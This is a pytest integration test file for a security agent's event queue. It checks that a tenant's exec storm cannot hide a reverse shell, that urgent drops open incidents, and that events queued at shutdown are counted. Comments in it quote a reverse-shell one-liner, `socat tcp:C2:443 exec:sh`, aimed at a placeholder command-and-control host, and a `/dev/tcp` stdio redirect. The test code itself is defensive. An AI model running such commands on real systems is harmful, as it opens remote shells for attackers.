"""The event queue under an attacker's storm, through the real agent pipeline (shipped
rules, detector, responder, store; a dry-run enforcer): a tenant's exec storm cannot
hide its own reverse shell (red-team wip-red1, finding 1: a reverse shell wired without
dup is seen ONLY as its proc.exec, tests/integration/test_reverse_shells.py), urgent
drops are an incident, events queued at stop are processed or counted (finding 2), and
probes.queue_events has honest bounds and hints (finding 3)."""
from __future__ import annotations

import asyncio
import logging
from pathlib import Path

import pytest

from agent.config import Config, ConfigError, Metrics, Probes, load
from agent.daemon import Agent
from agent.detect import triage
from agent.detect.rules import SEVERE, Detector, load_rules
from agent.enforce.base import DryRunEnforcer
from agent.model import Event, EventClass, IncidentState
from agent.report.reporting import Reporting
from agent.respond.engine import Responder
from agent.state.store import Store
from tests.unit.test_rules import CASES, CFG, to_event

T0 = 10**12


def _agent(tmp_path: Path, capacity: int) -> Agent:
    cfg = Config(state_dir=str(tmp_path), metrics=Metrics(listen=None),
                 probes=Probes(queue_events=capacity))     # the shipped rules
    agent = Agent(cfg)
    agent.store = Store(cfg.db_path)
    agent.responder = Responder(cfg, agent.store, DryRunEnforcer())
    agent.reporting = Reporting(cfg, agent.store, agent.responder.observers,
                                status=dict, losses=lambda: 0, queue=agent.queue_status)
    return agent


@pytest.fixture
def agent(tmp_path: Path):
    agent = _agent(tmp_path, 16384)       # the default probes.queue_events
    yield agent
    agent.reporting.close()
    agent.store.close()


def _exec(pid: int, cgroup_id: int = 42, **over) -> Event:
    # A tenant's container shell: a shell, stdio on pipes (nothing for any rule).
    fields = {"pid": pid, "tid": pid, "ppid": 1000, "uid": 1000, "euid": 1000, "comm": "sh",
              "exe": "/usr/bin/dash", "exe_is": ["shells"], "ancestors_are": ["shells"],
              "cgroup_id": cgroup_id, "cgroup": f"/tenant.slice/job-{cgroup_id}.scope",
              "stdin": "pipe", "stdout": "pipe", "stderr": "pipe", "stdio_inet": 0,
              "argv": ["sh", "-c", ":"], **over}
    return Event("proc.exec", f"pid:{pid}", T0 + pid, T0 + pid, fields)


SHELL = {"stdin": "inet", "stdout": "inet", "stderr": "inet", "stdio_inet": 3, "argv": ["sh"]}


def _drain(agent: Agent) -> None:
    async def run() -> None:
        task = asyncio.create_task(agent.consume())
        for _ in range(4000):
            await asyncio.sleep(0.005)
            if not len(agent.queue):
                break
        task.cancel()
    asyncio.run(run())


def _rules(agent: Agent) -> set[str]:
    return {r for i in agent.store.incidents() for r in i.rules}


def test_an_exec_storm_does_not_hide_the_tenants_own_reverse_shell(agent: Agent) -> None:
    storm = 3 * 16384                 # one ring-buffer drain under a storm
    pid = 2
    for _ in range(storm // 2):
        agent.enqueue(_exec(pid)); pid += 1
    # The reverse shell, in the middle of the storm: `socat tcp:C2:443 exec:sh`.
    agent.enqueue(_exec(pid, **SHELL)); pid += 1
    # A network threshold crossing at the same moment (another kind): kept.
    agent.enqueue(Event("net.source", "198.51.100.9", T0, T0 - 10**9,
                        {"syns": 50_000, "packets": 50_000, "dport": 80, "proto": "tcp"}))
    # Another tenant's (cgroup 7) shell below its service, behind the storm.
    agent.enqueue(_exec(pid, cgroup_id=7, ancestors_are=["services"], service_cgroup=True,
                        cgroup="/system.slice/api.service")); pid += 1
    for _ in range(storm // 2):
        agent.enqueue(_exec(pid)); pid += 1
    assert agent.queue.dropped["proc.exec"] >= storm - 16384
    assert not agent.queue.urgent.dropped
    _drain(agent)
    rules = _rules(agent)
    assert any(r.startswith("net.") for r in rules)      # the other kind got through
    assert any(r.startswith("breach.reverse_shell") for r in rules), rules
    assert any(r.startswith("breach.service_shell") for r in rules), rules


def test_control_the_same_shell_exec_is_detected_without_the_storm(agent: Agent) -> None:
    agent.enqueue(_exec(7, **SHELL))
    _drain(agent)
    assert any(r.startswith("breach.reverse_shell") for r in _rules(agent))


def test_a_socket_on_stdio_alone_is_not_urgent(agent: Agent) -> None:
    """`true </dev/tcp/...` costs a tenant nothing and detects nothing: ordinary lane."""
    agent.enqueue(_exec(3, exe="/usr/bin/true", exe_is=[], **{**SHELL, "argv": ["true"]}))
    agent.enqueue(_exec(4, **SHELL))
    assert (len(agent.queue.ordinary), len(agent.queue.urgent)) == (1, 1)


@pytest.mark.parametrize("where,spec,expected", CASES, ids=[c[0] for c in CASES])
def test_triage_sends_every_severe_case_to_the_urgent_lane(where, spec, expected) -> None:
    """The cheap hints (triage.HINTS) are necessary conditions of the shipped severe rules:
    every annotated case that fires one is urgent, every other is not (with the case
    files' config: its exec deny lists)."""
    cfg = CFG
    rules = load_rules()
    severe = {r.name for r in rules if r.severity in SEVERE and r.conditions[0].where}
    assert triage.urgent(Detector(rules, cfg), to_event(spec)) == bool(expected & severe), where


def test_owner_is_the_cgroup_else_the_uid() -> None:
    assert triage.owner(_exec(2)) == ("cgroup", 42)
    assert triage.owner(_exec(2, cgroup_id=0, cgroup=None)) == ("uid", 1000)
    assert triage.owner(Event("net.source", "198.51.100.9", T0, T0, {"syns": 1})) is None


def test_urgent_drops_open_an_escalated_health_incident(agent: Agent, caplog) -> None:
    cap = agent.queue.urgent.capacity
    for pid in range(2, 2 + cap + 5):           # a tenant wiring real reverse shells in bulk
        agent.enqueue(_exec(pid, **SHELL))
    assert agent.queue.urgent.dropped == {"proc.exec": 5}
    with caplog.at_level(logging.WARNING, logger="swarm_agent"):
        agent.check_drops()
    [incident] = agent.store.incidents(event_class=EventClass.AGENT_HEALTH)
    assert incident.state is IncidentState.ESCALATED and "agent.events_dropped@1" in incident.rules
    assert agent.status()["counters"]["events.dropped_urgent.proc.exec"] == 5
    [line] = [r for r in caplog.records if "dropped" in r.getMessage()]
    assert line.dropped == {"urgent.proc.exec": 5}


def test_ordinary_drops_are_logged_rate_limited_without_an_incident(agent: Agent, caplog) -> None:
    with caplog.at_level(logging.WARNING, logger="swarm_agent"):
        for round_ in range(3):
            for pid in range(2, 20_000):
                agent.enqueue(_exec(pid))
            agent.check_drops()
    lines = [r for r in caplog.records if "dropped" in r.getMessage()]
    assert len(lines) == 1 and lines[0].dropped == {"ordinary.proc.exec": 20_000 - 2 - 16384}
    assert agent.store.incidents(event_class=EventClass.AGENT_HEALTH) == []
    assert agent.status()["counters"]["events.dropped.proc.exec"] == 3 * 19_998 - 16384


def test_events_queued_at_stop_are_processed_or_counted(tmp_path: Path, caplog) -> None:
    """A stop (SIGTERM: an upgrade, a restart) cancels consume(); close() runs what is
    queued through the detector for up to 2 s and counts what is left."""
    agent = _agent(tmp_path, 16384)
    try:
        for pid in range(2, 5002):
            agent.enqueue(_exec(pid))
        agent.enqueue(_exec(9999, **SHELL))

        async def run() -> None:
            task = asyncio.create_task(agent.consume())
            await asyncio.sleep(0)          # one budgeted batch, then the stop
            await asyncio.sleep(0)
            task.cancel()
        asyncio.run(run())
        before = agent.counters["events.proc.exec"]
        left = len(agent.queue)
        assert left
        agent.close()
        counted = agent.counters["events.proc.exec"] - before + \
            agent.counters["events.dropped_at_stop.proc.exec"]
        assert len(agent.queue) == 0 and counted == left
        assert any(k.startswith("findings.breach.reverse_shell") for k in agent.counters)
    finally:
        agent.store.close()


def test_what_the_stop_deadline_leaves_is_counted_and_logged(agent: Agent, caplog) -> None:
    for pid in range(2, 1002):
        agent.enqueue(_exec(pid))
    with caplog.at_level(logging.ERROR, logger="swarm_agent"):
        agent.drain_at_stop(deadline_s=0)
    assert agent.counters["events.dropped_at_stop.proc.exec"] == 1000 and not len(agent.queue)
    assert any(getattr(r, "dropped", None) == {"proc.exec": 1000} for r in caplog.records)


@pytest.mark.parametrize("text, message", [
    ("probes:\n  queue_events: 16\n", "probes.queue_events must be at least 1024 and at "
     "most 262144 (got 16; a queued event holds up to about 4.5 KiB"),
    ("probes:\n  queue_events: 1048576\n", "at most 262144 (got 1048576"),
    ("probes:\n  queue_events: \"16384\"\n", "probes.queue_events must be an integer "
     "(got the text '16384': write 16384 without quotes)"),
    ("probes:\n  queue_events: 1e5\n", "probes.queue_events must be an integer (YAML reads "
     "'1e5' as text: write it in full, without an exponent)"),
])
def test_queue_events_bounds_and_hints(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "config.yaml"
    path.write_text(text)
    with pytest.raises(ConfigError) as e:
        load(path)
    assert message in str(e.value)
